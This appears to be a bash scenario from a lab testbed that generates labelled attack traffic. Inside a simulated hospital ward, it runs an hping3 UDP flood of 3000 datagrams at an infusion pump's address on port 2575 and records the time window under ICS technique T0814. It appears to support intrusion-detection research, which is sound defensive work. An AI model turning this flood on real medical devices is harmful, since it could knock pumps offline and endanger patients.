# UDP flood against pump 1 (hping3 --udp, 3000 datagrams at about 2000/s).
DEFAULT_DURATION=30
attack_udp_flood() {
  command -v hping3 > /dev/null || { echo "hping3 missing (scripts/install-deps.sh)" >&2; return 1; }
  local t0 t1
  t0=$(now)
  run_in attacker hping3 20 hping3 -q --udp -p 2575 -d 120 -i u500 -c 3000 10.10.2.21
  t1=$(now)
  label udp_flood T0814 attacker pump1 "$t0" "$t1" \
    "hping3 --udp: 3000 datagrams of 120 bytes to 10.10.2.21:2575 at about 2000 packets/s"
}
scenario_run() {
  start_ward "$1"
  sleep 6
  attack_udp_flood
}
